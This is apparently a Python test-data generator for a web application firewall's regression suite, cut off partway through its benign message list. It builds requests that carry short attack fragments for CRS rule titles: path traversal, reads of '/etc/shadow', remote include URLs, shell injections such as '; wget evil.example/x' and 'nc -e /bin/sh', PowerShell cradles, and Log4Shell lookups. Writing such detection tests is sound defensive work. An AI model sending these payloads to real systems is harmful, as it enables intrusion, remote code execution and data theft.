"""Blind atomic-payload set: the shortest fragments that still carry each CRS 3.3.4 (and later 4.x) request-rule
title of the RCE, LFI, RFI and Java families, each then repeated with exactly one obfuscation, the way a WAF's
regression suite lists them one per test.

Angle: a rule must catch the bare fragment, not only a full exploit. For every title the set holds 8 to 12
payloads: first the atomic fragments (a single command after a separator, a bare command with one flag, a two-level
traversal, a lone OS file path, a remote include URL, a lone Java class name or method call, a lone Log4Shell
lookup), then the same fragments with one obfuscation each (letter case, shell quoting, a whitespace substitute,
or an encoding the server decodes).

Families and sub-families (one sub-family per detection title):
- lfi: path-traversal-encoded (930100), path-traversal (930110), os-file-access (930120), restricted-file (930130),
  os-file-in-headers and path-traversal-triple-dot (4.x).
- rfi: rfi-ip-address (931100), rfi-vulnerable-param (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain (931130).
- rce: unix-cmd-injection (932100), unix-cmd-injection-more (932105), windows-cmd-injection (932110),
  windows-cmd-injection-more (932115), powershell (932120), unix-shell-expression (932130), windows-for-if (932140),
  direct-unix-cmd (932150), unix-shell-code (932160), shellshock-headers (932170), shellshock-args (932171),
  restricted-upload (932180), rce-bypass (932200); 4.x: unix-cmd-plain, unix-cmd-evasion, unix-alias,
  unix-history, unix-pipe-short-cmd, sqlite-system-cmd, mail-protocol-cmd, windows-cmd-evasion,
  unix-shell-code-headers, direct-unix-cmd-paths.
- java: java-class-rce (944100), java-process-spawn (944110), java-serialization (944120),
  java-suspicious-class (944130), java-magic-bytes (944200), java-magic-base64 (944210),
  java-serialization-pl2 (944240), java-suspicious-method (944250); 4.x: log4shell, java-class-loading,
  java-script-upload.

Placements: every payload is sent twice. Once in one of our real routes, rotating through what the title allows:
the query of /api/users, the form of /admin/users/search (with csrf_token), the JSON of /api/users, a cookie, the
User-Agent, the Referer, another header (X-Trace-Note), a parameter name, an XML body, a multipart field or
filename, the URL path. Once the way a regression suite sends it (placements prefixed "rs-"): to a path that is
not our route (/, /index.php, /get, /post, /search, /api/v1/items) under an arbitrary parameter name (foo, var, x,
test, id, arg1), as a query string, a form body, a JSON body, an XML body, or in the User-Agent, the Referer, a
custom header or a cookie. Payloads that are already percent-encoded go onto the wire as written (the server
decodes them once); the others are percent-encoded where the place needs it.

Benign half: the same words as real users type them: Slack messages and bios (chat_and_bio), searches in the
API and the admin panel, documentation links and prose, profiles with names and addresses, ordinary file
uploads, ordinary browser headers, slash commands, and the plain requests a regression suite sends to the same
non-route paths.

Authorship and independence: written from general knowledge of the attack families and from the rule titles
alone, without reading the WAF rules, the engine, any ruleset, any ruleset regression test or any public payload
list; measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose, prose_request
from .records import numbered, print_records

NAME = "fiftysixth"

# Where a title may sit on our real routes and in a regression suite's request.
ALL_REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Trace-Note",
            "param-name", "xml", "multipart-field", "multipart-filename", "path"]
ARGS_REAL = ["query", "form", "json", "param-name", "xml", "multipart-field", "cookie"]
HEADERS_REAL = ["header:User-Agent", "header:Referer", "header:X-Trace-Note", "cookie"]
ALL_RS = ["query", "form", "json", "xml", "header:User-Agent", "header:Referer", "header:X-Custom", "cookie"]
ARGS_RS = ["query", "form", "json", "xml"]
HEADERS_RS = ["header:User-Agent", "header:Referer", "header:X-Custom", "cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
REAL_NAMES = ["q", "name", "filter", "note", "path", "value"]
RFI_PARAMS = ["include", "inc", "file", "page", "template", "mosConfig_absolute_path", "_CONF[path]",
              "GALLERY_BASEDIR", "path[docroot]", "appserv_root", "config[root_dir]", "_SERVER[DOCUMENT_ROOT]"]

# (category, sub, real placements, rs placements, payloads): atomic first, then one obfuscation each.
Title = tuple[str, str, list[str], list[str], list[str]]

LFI: list[Title] = [
    ("lfi", "path-traversal-encoded", ["query", "form", "path", "header:Referer", "cookie", "param-name"],
     ["query", "form", "header:Referer", "cookie", "header:X-Custom"], [
        "%2e%2e%2f%2e%2e%2f",
        "..%2f..%2f",
        "%2e%2e/%2e%2e/",
        "..%5c..%5c",
        "%2e%2e%5c%2e%2e%5c",
        "%2E%2E%2F%2E%2E%2F",
        "..%252f..%252f",
        "%252e%252e%252f%252e%252e%252f",
        "..%c0%af..%c0%af",
        "%uff0e%uff0e%u2215%uff0e%uff0e%u2215",
        "..%u2216..%u2216",
    ]),
    ("lfi", "path-traversal", ["query", "form", "json", "cookie", "header:Referer", "header:X-Trace-Note", "xml",
                               "multipart-field", "multipart-filename", "param-name"], ALL_RS, [
        "../../",
        "..\\..\\",
        "/../..",
        "x/../../y",
        "../../../",
        "..//..//",
        "....//....//",
        "..\\/..\\/",
        "./.././../",
        "..;/..;/",
        ".. /.. /".replace(" ", "\t"),
    ]),
    ("lfi", "os-file-access", ALL_REAL, ALL_RS, [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "/etc/group",
        "boot.ini",
        "/ETC/PASSWD",
        "/etc//shadow",
        "/etc/./passwd",
        "%2fetc%2fpasswd",
        "C:/WINDOWS/system32/drivers/etc/hosts",
        "/proc/self/./environ",
    ]),
    ("lfi", "restricted-file", ["path", "query", "path", "form", "path", "json"], ["path", "query", "path", "form"], [
        ".htaccess",
        ".git/config",
        ".env",
        "web.config",
        ".htpasswd",
        ".svn/entries",
        ".HTACCESS",
        ".git//HEAD",
        "%2egit/config",
        "Web.Config",
        ".env%00",
    ]),
    ("lfi", "os-file-in-headers", HEADERS_REAL, HEADERS_RS, [
        "/etc/passwd",
        "/etc/hosts",
        "/proc/self/cmdline",
        "c:\\boot.ini",
        "/etc/issue",
        "/etc//passwd",
        "/ETC/HOSTS",
        "/proc/./self/cmdline",
        "file:///etc/passwd",
    ]),
    ("lfi", "path-traversal-triple-dot", ["query", "form", "json", "cookie", "header:Referer", "xml",
                                          "multipart-field", "param-name"], ALL_RS, [
        "/.../.../",
        ".../...//",
        "...\\...\\",
        "x/.../y",
        "/..../..../",
        "%2e%2e%2e/%2e%2e%2e/",
        ".../.../etc",
        "...%2f...%2f",
    ]),
]

RFI: list[Title] = [
    ("rfi", "rfi-ip-address", ["query", "form", "json", "cookie", "header:Referer", "xml", "multipart-field",
                               "header:X-Trace-Note"], ALL_RS, [
        "http://203.0.113.9/x.txt",
        "https://192.0.2.7/inc",
        "ftp://198.51.100.4/a",
        "http://10.1.2.3/s.php",
        "file://203.0.113.9/share",
        "HTTP://203.0.113.9/x.txt",
        "hTtPs://192.0.2.7/inc",
        "http://203.0.113.9:8080/x",
        "ftps://198.51.100.4/a",
        "http%3A%2F%2F203.0.113.9%2Fx.txt",
    ]),
    ("rfi", "rfi-vulnerable-param", ["query", "form"], ["query", "form"], [
        "http://evil.example/shell.txt",
        "https://evil.example/x",
        "ftp://evil.example/p.txt",
        "http://evil.example/c99.txt",
        "file://evil.example/x",
        "HTTP://evil.example/shell.txt",
        "hTtPs://evil.example/x",
        "FtP://evil.example/p.txt",
        "http%3A%2F%2Fevil.example%2Fc99.txt",
        "http://evil.example/shell.txt%00",
    ]),
    ("rfi", "rfi-trailing-question-mark", ["query", "form", "json", "cookie", "xml", "multipart-field",
                                           "header:X-Trace-Note"], ALL_RS, [
        "http://evil.example/x.txt?",
        "https://evil.example/s?",
        "ftp://evil.example/a?",
        "http://203.0.113.9/p?",
        "HTTP://EVIL.EXAMPLE/X.TXT?",
        "http://evil.example/x.txt??",
        "http://evil.example/x.txt%3F",
        "hTtP://evil.example/s?",
        "https://evil.example/s.txt?\t",
    ]),
    ("rfi", "rfi-off-domain", ["query", "form", "json", "cookie", "xml", "multipart-field"], ARGS_RS + ["cookie"], [
        "http://evil.example/",
        "https://attacker.example/a.php",
        "ftp://evil.example/x",
        "http://evil.example/x.js",
        "HTTPS://EVIL.EXAMPLE/",
        "hTtP://attacker.example/a.php",
        "https://evil.example:443/x",
        "http%3A%2F%2Fevil.example%2F",
        "http://user@evil.example/",
    ]),
]

RCE: list[Title] = [
    ("rce", "unix-cmd-injection", ALL_REAL, ALL_RS, [
        ";id",
        "|id",
        "&&whoami",
        "; ls -la",
        "`id`",
        "$(id)",
        "||uname -a",
        ";i''d",
        ";w\"h\"oami",
        "; ls\t-la",
        "%0aid",
        ";${IFS}id",
    ]),
    ("rce", "unix-cmd-injection-more", ALL_REAL, ALL_RS, [
        "; wget evil.example/x",
        "| nc -lvp 4444",
        "; curl evil.example",
        "&& python -c 1",
        "; perl -e 1",
        "| sh",
        "; chmod 777 x",
        "; w'g'et evil.example/x",
        "|n\\c -lvp 4444",
        ";curl${IFS}evil.example",
        "&&\tpython -c 1",
    ]),
    ("rce", "windows-cmd-injection", ALL_REAL, ALL_RS, [
        "& dir",
        "| type win.ini",
        "&& ipconfig",
        "& net user",
        "| whoami",
        "& ver",
        "& d^ir",
        "|ty^pe win.ini",
        "& IPCONFIG",
        "& n\"et\" user",
        "&cmd /c ver",
    ]),
    ("rce", "windows-cmd-injection-more", ALL_REAL, ALL_RS, [
        "& reg query HKLM",
        "| wmic process list",
        "& schtasks /query",
        "& sc query",
        "| tasklist",
        "& systeminfo",
        "& r^eg query HKLM",
        "|WMIC process list",
        "& sc^htasks /query",
        "|task\"list\"",
        "&\tsysteminfo",
    ]),
    ("rce", "powershell", ALL_REAL, ALL_RS, [
        "powershell -nop",
        "Invoke-Expression $x",
        "IEX $x",
        "Invoke-WebRequest evil.example",
        "Start-Process cmd",
        "Set-ExecutionPolicy Bypass",
        "New-Object Net.WebClient",
        "InVoKe-ExPrEsSiOn $x",
        "powershell.exe -EnC aQBkAA==",
        "Invoke-Web`Request evil.example",
        "POWERSHELL -nop",
        "sTaRt-PrOcEsS cmd",
    ]),
    ("rce", "unix-shell-expression", ALL_REAL, ALL_RS, [
        "$(id)",
        "${IFS}",
        "$((1+1))",
        "<(id)",
        ">(id)",
        "${PATH}",
        "$( id )",
        "$(i\\d)",
        "${IFS%??}",
        "<( id )",
        "$(\tid)",
    ]),
    ("rce", "windows-for-if", ALL_REAL, ALL_RS, [
        "for /f %i in (a) do x",
        "for /l %i in (1,1,9) do x",
        "if exist c:\\x echo 1",
        "if defined x echo y",
        "for %i in (*) do echo %i",
        "if not exist x dir",
        "FoR /F %i iN (a) Do x",
        "for\t/l %i in (1,1,9) do x",
        "IF EXIST c:\\x echo 1",
        "for /f \"tokens=*\" %i in ('ver') do x",
    ]),
    ("rce", "direct-unix-cmd", ARGS_REAL, ARGS_RS + ["cookie"], [
        "cat /etc/hosts",
        "wget http://evil.example/x",
        "curl -s evil.example",
        "nc -e /bin/sh",
        "bash -i",
        "uname -a",
        "c\\at /etc/hosts",
        "'cat' /etc/hosts",
        "w'g'et http://evil.example/x",
        "nc\t-e /bin/sh",
        "{uname,-a}",
    ]),
    ("rce", "unix-shell-code", ALL_REAL, ALL_RS, [
        "/bin/sh",
        "/bin/bash -c id",
        "/usr/bin/id",
        "/bin/busybox",
        "/usr/bin/python3",
        "/bin/nc",
        "/bin//sh",
        "/b?n/s?",
        "/bin/./bash -c id",
        "/b'i'n/busybox",
        "/usr/bin/i\\d",
    ]),
    ("rce", "shellshock-headers", HEADERS_REAL, HEADERS_RS, [
        "() { :;}; id",
        "() { :; }; /bin/id",
        "(){ :;};id",
        "() { _; } >_[$($())] { id; }",
        "() { :;}; echo x",
        "()  {  :;  };  id",
        "()\t{ :;}; id",
        "() { x;};id",
        "() {:;}; /bin/sh",
    ]),
    ("rce", "shellshock-args", ["query", "form", "json", "xml", "multipart-field", "param-name"], ARGS_RS, [
        "() { :;}; id",
        "() { :; }; /bin/id",
        "(){ :;};id",
        "() { _; } >_[$($())] { id; }",
        "() { :;}; echo x",
        "()  {  :;  };  id",
        "()\t{ :;}; id",
        "%28%29%20%7B%20%3A%3B%7D%3B%20id",
        "() { x;};id",
    ]),
    ("rce", "restricted-upload", ["multipart-filename"], ["multipart-filename", "header:X-Filename"], [
        ".htaccess",
        "web.config",
        ".user.ini",
        ".bashrc",
        ".bash_profile",
        ".htpasswd",
        "php.ini",
        ".HTACCESS",
        "Web.Config",
        ".user.ini.",
        ".htaccess ",
    ]),
    ("rce", "rce-bypass", ALL_REAL, ALL_RS, [
        "w'h'o'am'i",
        "c\\at",
        "wh$@oami",
        "/???/??t",
        "ca''t",
        "i\"d\"",
        "w\\h\\o\\a\\m\\i",
        "who${x}ami",
        "c$()at",
        "/b[i]n/l[s]",
        "\"w\"h\"o\"ami",
    ]),
    # later CRS (4.x) titles
    ("rce", "unix-cmd-plain", ALL_REAL, ALL_RS, [
        "; uname",
        "| hostname",
        "&& env",
        "; printenv",
        "; ps aux",
        "| awk 1",
        "; find / -name x",
        "&& tail x",
        "; head -n1 x",
        "; id",
    ]),
    ("rce", "unix-cmd-evasion", ALL_REAL, ALL_RS, [
        ";c\\at x",
        ";ca''t x",
        ";c\"a\"t x",
        ";{cat,x}",
        ";cat$IFS$9x",
        ";/???/c?t x",
        ";$(printf 'id')",
        ";c${u}at x",
        ";w$@hoami",
        ";ca[t] x",
    ]),
    ("rce", "unix-alias", ALL_REAL, ALL_RS, [
        "; alias x=id",
        "; unalias -a",
        "; \\ls -la",
        "; command id",
        "; builtin eval id",
        "; alias",
        "; a'l'ias x=id",
        "; \\a\\lias",
        ";\talias x=id",
    ]),
    ("rce", "unix-history", ALL_REAL, ALL_RS, [
        "; !!",
        "; !-1",
        "; history -c",
        "; fc -s",
        "; !id",
        "$(!!)",
        "; hist'o'ry -c",
        ";\t!!",
        "; HISTFILE=/dev/null",
    ]),
    ("rce", "unix-pipe-short-cmd", ALL_REAL, ALL_RS, [
        "| id",
        "| sh",
        "| nc x 1",
        "| dd",
        "| od",
        "| ps",
        "| su",
        "|i''d",
        "|\tsh",
        "|${IFS}ps",
    ]),
    ("rce", "sqlite-system-cmd", ARGS_REAL, ARGS_RS + ["cookie"], [
        ".system id",
        ".shell id",
        ".system ls -la",
        ".shell cat /etc/hosts",
        ".load /tmp/x.so",
        ".output /tmp/x",
        ".SYSTEM id",
        ".sh'ell' id",
        ".system\tid",
        "; .shell id",
    ]),
    ("rce", "mail-protocol-cmd", ["query", "form", "json", "xml", "multipart-field"], ARGS_RS, [
        "\r\nMAIL FROM:<a@evil.example>",
        "\r\nRCPT TO:<v@example.org>",
        "\r\nDATA",
        "\r\nA1 LOGIN x y",
        "\r\nA1 FETCH 1 BODY[]",
        "\r\nUSER x\r\nPASS y",
        "\r\nRETR 1",
        "\nrcpt to:<v@example.org>",
        "\r\na1 fetch 1 body[]",
        "\r\nDELE\t1",
    ]),
    ("rce", "windows-cmd-evasion", ALL_REAL, ALL_RS, [
        "& c^m^d /c ver",
        "& p^o^w^e^r^s^h^e^l^l",
        "&w\"h\"o\"am\"i",
        "& cmd /c \"ver\"",
        "& %COMSPEC% /c ver",
        "& c:\\windows\\system32\\cmd.exe /c ver",
        "& CmD.ExE /c ver",
        "&\tcmd /c ver",
        "& cmd,/c,ver",
        "& cmd;/c ver",
    ]),
    ("rce", "unix-shell-code-headers", HEADERS_REAL, HEADERS_RS, [
        "/bin/bash",
        "$(id)",
        "`id`",
        "; /bin/sh",
        "bash -i",
        "/usr/bin/wget",
        "/bin//bash",
        "$( id )",
        "/b?n/sh",
        "/bin/./sh",
    ]),
    ("rce", "direct-unix-cmd-paths", ARGS_REAL, ARGS_RS + ["cookie"], [
        "/bin/cat /etc/hosts",
        "/usr/bin/curl evil.example",
        "/bin/ls -la",
        "/usr/bin/nc -e x",
        "/bin/c?t /etc/hosts",
        "/usr/bin/cu*l evil.example",
        "/???/l? -la",
        "/bin//ls -la",
        "/usr/bin/nc\t-e x",
    ]),
]

JAVA: list[Title] = [
    ("java", "java-class-rce", ALL_REAL, ALL_RS, [
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "new java.lang.ProcessBuilder(\"id\")",
        "java.lang.ProcessImpl",
        "JAVA.LANG.RUNTIME",
        "JaVa.LaNg.PrOcEsSbUiLdEr",
        "java%2elang%2eRuntime",
        "java.lang.Runtime .getRuntime()",
        "java.lang.\tProcessBuilder",
    ]),
    ("java", "java-process-spawn", ALL_REAL, ALL_RS, [
        "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "<java.lang.ProcessBuilder>",
        "<command><string>id</string></command>",
        "<JAVA.LANG.PROCESSBUILDER>",
        "NEW JAVA.LANG.PROCESSBUILDER(\"id\").START()",
        "java.lang.Runtime.getRuntime( ).exec( \"id\" )",
        "<java.lang.ProcessBuilder >",
    ]),
    ("java", "java-serialization", ALL_REAL, ALL_RS, [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "org.apache.commons.collections.functors.InstantiateTransformer",
        "java.beans.XMLDecoder",
        "org.apache.commons.collections.functors.PrototypeCloneFactory",
        "org.apache.commons.collections.functors.WhileClosure",
        "ORG.APACHE.COMMONS.COLLECTIONS.FUNCTORS.INVOKERTRANSFORMER",
        "org%2eapache%2ecommons%2ecollections%2efunctors%2eInvokerTransformer",
        "JaVa.BeAnS.XmLdEcOdEr",
        "org.apache.commons.collections4.functors.InvokerTransformer",
    ]),
    ("java", "java-suspicious-class", ALL_REAL, ALL_RS, [
        "java.io.FileInputStream",
        "javax.script.ScriptEngineManager",
        "java.net.URLClassLoader",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "javax.naming.InitialContext",
        "java.io.ObjectInputStream",
        "com.sun.rowset.JdbcRowSetImpl",
        "JAVA.IO.FILEINPUTSTREAM",
        "jAvAx.ScRiPt.ScRiPtEnGiNeMaNaGeR",
        "java%2enet%2eURLClassLoader",
        "Com.Sun.RowSet.JdbcRowSetImpl",
    ]),
    ("java", "java-magic-bytes", ["query", "form", "param-name"], ["query", "form"], [
        "%AC%ED%00%05",
        "%AC%ED%00%05sr",
        "%AC%ED%00%05t%00%04test",
        "%AC%ED%00%05ur",
        "%ac%ed%00%05",
        "%aC%Ed%00%05sr",
        "%25AC%25ED%2500%2505",
        "x%AC%ED%00%05sr",
    ]),
    ("java", "java-magic-base64", ALL_REAL, ALL_RS, [
        "rO0ABQ==",
        "rO0ABXNy",
        "rO0ABXQABHRlc3Q=",
        "rO0ABXVy",
        "rO0ABXcEAAAAAA==",
        "rO0AB%58Ny",
        " rO0ABXNy",
        "rO0ABXNy%0a",
        "x=rO0ABXNy",
    ]),
    ("java", "java-serialization-pl2", ALL_REAL, ALL_RS, [
        "InvokerTransformer",
        "ConstantTransformer",
        "InstantiateFactory",
        "PrototypeSerializationFactory",
        "WhileClosure",
        "ForClosure",
        "CloneTransformer",
        "XMLDecoder",
        "iNvOkErTrAnSfOrMeR",
        "XMLdecoder",
        "Invoker%54ransformer",
    ]),
    ("java", "java-suspicious-method", ALL_REAL, ALL_RS, [
        "getRuntime()",
        ".exec(\"id\")",
        "Class.forName(\"x\")",
        "getMethod(\"exec\")",
        "getDeclaredMethod(\"x\")",
        "newInstance()",
        "getClassLoader()",
        "GETRUNTIME()",
        "getRuntime ()",
        "Class.forName (\"x\")",
        "getruntime().exec(\"id\")",
    ]),
    # later CRS (4.x) titles
    ("java", "log4shell", ALL_REAL, ALL_RS, [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://evil.example/a}",
        "${jndi:dns://evil.example/a}",
        "${jndi:ldaps://evil.example/a}",
        "${JNDI:LDAP://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}ndi:ldap://evil.example/a}",
        "${jndi:${lower:l}dap://evil.example/a}",
        "$%7Bjndi:ldap://evil.example/a%7D",
        "${ jndi:ldap://evil.example/a}",
        "${j${env:x:-n}di:ldap://evil.example/a}",
    ]),
    ("java", "java-class-loading", ALL_REAL, ALL_RS, [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "class.classLoader.URLs[0]=x",
        "class.module.classLoader",
        "getClass().getClassLoader()",
        "Thread.currentThread().getContextClassLoader()",
        "CLASS.MODULE.CLASSLOADER",
        "class['module']['classLoader']",
        "class.module.classLoader%2eresources",
        "Class.Module.ClassLoader.Resources",
    ]),
    ("java", "java-script-upload", ["multipart-filename"], ["multipart-filename", "header:X-Filename"], [
        "shell.jsp",
        "x.jspx",
        "a.jsf",
        "cmd.jsp",
        "SHELL.JSP",
        "x.JsPx",
        "shell.jsp.",
        "shell.jsp ",
        "x.jsp%00.png",
    ]),
]

TITLES: list[Title] = LFI + RFI + RCE + JAVA

ENCODED = re.compile(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}")
COOKIE_SAFE = "/:.()${}'\"!*|&`<>-_~=?@,[]\\^"
BOUNDARY = "----fiftysixthFormBoundary7MA4YWxk"


def _is_encoded(value: str) -> bool:
    return bool(ENCODED.search(value))


def _enc(value: str) -> str:
    """A value for a query or form: as written when already percent-encoded (the server decodes it once),
    otherwise percent-encoded."""
    if _is_encoded(value):
        return urllib.parse.quote(value, safe="%/:.-_~")
    return urllib.parse.quote(value, safe="")


def _enc_name(value: str) -> str:
    if _is_encoded(value):
        return urllib.parse.quote(value, safe="%/:.-_~[]")
    return urllib.parse.quote(value, safe="[]")


def _raw_get(path: str, query: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": "GET", "uri": f"{path}?{query}" if query else path, "body": "",
            "headers": headers or {"User-Agent": UA, "Accept": "application/json"}}


def _raw_form(path: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": path, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": "application/x-www-form-urlencoded"}}


def _xml(path: str, root: str, name: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escape(value)}</{name}></{root}>'
    return {"method": "POST", "uri": path, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _multipart(path: str, fields: list[tuple[str, str]], file: tuple[str, str, str] | None) -> dict[str, Any]:
    """A multipart/form-data body: plain fields, then an optional (field name, filename, content) file part."""
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
    if file is not None:
        field, filename, content = file
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": path, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _with_header(rec: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], name: value}}


def _header_value(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\0", " ")


def _cookie_value(value: str) -> str:
    return value if _is_encoded(value) else urllib.parse.quote(value, safe=COOKIE_SAFE)


def _real(place: str, name: str, value: str) -> dict[str, Any]:
    """`value` in one of our real routes."""
    if place == "query":
        return _raw_get("/api/users", f"{name}={_enc(value)}&page=1")
    if place == "form":
        return _raw_form("/admin/users/search", f"csrf_token=t0k3n&{name}={_enc(value)}")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return _with_header(_get("/api/users?page=1"), "Cookie", f"session=abc123; {name}={_cookie_value(value)}")
    if place.startswith("header:"):
        return _with_header(_get("/api/users?page=1"), place.split(":", 1)[1], _header_value(value))
    if place == "param-name":
        return _raw_get("/api/users", f"{_enc_name(value)}=1&page=1")
    if place == "xml":
        return _xml("/api/users", "user", name, value)
    if place == "multipart-field":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)], None)
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", [("caption", "my photo")], ("file", value, "hello"))
    if place == "path":
        quoted = value if _is_encoded(value) else urllib.parse.quote(value, safe="/")
        return _get("/api/users/" + quoted)
    raise ValueError(place)


def _rs(place: str, path: str, name: str, value: str) -> dict[str, Any]:
    """`value` the way a regression suite sends it: a non-route path, an arbitrary parameter name."""
    if place == "query":
        return _raw_get(path, f"{name}={_enc(value)}", {"User-Agent": UA, "Accept": "*/*"})
    if place == "form":
        return _raw_form(path, f"{name}={_enc(value)}")
    if place == "json":
        return _json(path, {name: value})
    if place == "xml":
        return _xml(path, "root", name, value)
    if place == "cookie":
        return _with_header(_get(path), "Cookie", f"{name}={_cookie_value(value)}")
    if place.startswith("header:"):
        return _with_header(_get(path), place.split(":", 1)[1], _header_value(value))
    if place == "multipart-filename":
        return _multipart(path, [], (name, value, "test"))
    if place == "path":
        quoted = value if _is_encoded(value) else urllib.parse.quote(value, safe="/")
        return _get(path.rstrip("/") + "/" + quoted)
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, real_places, rs_places, payloads) in enumerate(TITLES):
        for i, p in enumerate(payloads):
            real_place = real_places[(i + t) % len(real_places)]
            if real_place == "multipart-filename" and '"' in p and sub != "restricted-upload":
                real_place = "multipart-field"
            if sub == "rfi-vulnerable-param":
                name = RFI_PARAMS[i % len(RFI_PARAMS)]
                rs_name = RFI_PARAMS[(i + 5) % len(RFI_PARAMS)]
            else:
                name = REAL_NAMES[(i + t) % len(REAL_NAMES)]
                rs_name = RS_NAMES[(i + 2 * t) % len(RS_NAMES)]
            rs_place = rs_places[(i + 3 * t) % len(rs_places)]
            rs_path = RS_PATHS[(i + t) % len(RS_PATHS)]
            if rs_place == "form" or rs_place == "json" or rs_place == "xml":
                rs_path = "/post" if i % 2 else rs_path
            for placement, rec in ((real_place, _real(real_place, name, p)),
                                   ("rs-" + rs_place, _rs(rs_place, rs_path, rs_name, p))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": p}


# ---------------------------------------------------------------- benign: the same words, typed innocently

SLACK_TEXTS = [
    "cat pics in #random please, not in #eng",
    "what's my user id again? need it for the expense form",
    "can someone ping the oncall? the dashboard is slow",
    "dir of marketing starts Monday, say hi to Priya",
    "type the ticket number in the subject line",
    "for each region we do a dry run, then the real deploy",
    "if it rains we move the offsite to the office",
    "powershell script for the laptops is in the IT wiki",
    "I invoke the expression builder from the report menu",
    "java.lang.Runtime questions go in #jvm, thanks",
    "ProcessBuilder vs Runtime.exec: the former is nicer for env vars",
    "our passwd rotation reminder goes out on the 1st",
    "the /etc folder of the container is read only, by design",
    "docs moved one level up, see the parent folder",
    "the win.ini question from the old Windows box is solved, it was a printer",
    "I put the .env.example in the repo, the real one is in the vault",
    "ignore the .DS_Store files in the zip",
    "our htaccess days are over since we moved to nginx",
    "the web.config for the IIS site is owned by the other team",
    "curl the health endpoint and paste the output here",
    "wget is not on the image, use curl",
    "ls shows nothing? you're in the wrong folder",
    "uname says 6.8, so the kernel is new enough",
    "who am I kidding, I'll be late again",
    "sh: is that short for shell or for Sharon?",
    "the history of the project is in the wiki",
    "alias for the staging db is db-stage",
    "run !! to repeat the command, it's a bash trick",
    "the sqlite .system note in the docs surprised me",
    "MAIL FROM and RCPT TO are the first SMTP steps, for the training",
    "the IMAP login failed for the shared inbox",
    "POP3 is disabled on the mail server",
    "cmd and powershell both work on the build agent",
    "I set the for loop to 10 and if the value is above 5 it breaks",
    "reg query is how the helpdesk checks the install",
    "tasklist shows two copies of Outlook running",
    "systeminfo output attached to the ticket",
    "the InvokerTransformer CVE talk was great",
    "XMLDecoder is banned in our code review checklist",
    "Log4j lookups like jndi are disabled since 2021",
    "JNDI is still used by the legacy app server for datasources",
    "class loaders in Tomcat are confusing",
    "the Spring ClassLoader issue was patched",
    "jsp pages are gone from the new frontend",
    "upload the .jsp templates to the archive bucket",
    "rO0 is how Java serialized data starts in base64, fun fact",
    "ACED is the hex magic for Java serialization",
    "the (){ } syntax in bash functions confuses newcomers",
    "echo $PATH to check your shell path",
    "use $(pwd) in the Makefile instead of backticks",
    "the ${HOME} variable is not expanded in single quotes",
    "the .bashrc and .bash_profile difference trips everyone up",
    "php.ini changes need a restart of php-fpm",
    "the user.ini override works on shared hosting",
    "the htpasswd file for the staging site is in 1Password",
    "net user commands are for admins only",
    "ipconfig /all shows the DNS servers",
    "the tee shirt order is due Friday",
    "I'll dd the old disk before recycling it",
    "od -c is handy to spot stray characters",
    "ps aux | grep java shows the service",
    "env vars for the job are in the CI settings",
    "find the printer on the third floor",
    "tail of the log shows the timeout",
    "head count for lunch is 14",
    "nc is netcat, useful for port checks",
    "bash -x shows each line as it runs",
    "python -c is fine for quick one-liners",
    "perl is still used by the billing scripts",
    "chmod 600 on the key file fixes the ssh warning",
    "the schtasks job runs at 2am",
    "sc query shows the service state on Windows",
    "WMIC is deprecated, use PowerShell cmdlets",
    "Invoke-WebRequest is the PowerShell curl",
    "Set-ExecutionPolicy is locked by group policy",
    "New-Object for COM objects in the old scripts",
    "Start-Process opens the installer elevated",
    "IEX is the short alias for Invoke-Expression, avoid it",
    "FileInputStream is fine for small files",
    "ScriptEngineManager was removed with Nashorn",
    "URLClassLoader handles the plugin jars",
    "ObjectInputStream filters are configured in java.security",
    "JdbcRowSetImpl shows up in every deserialization talk",
    "InitialContext lookup for the datasource works",
    "getRuntime() is used for memory stats only",
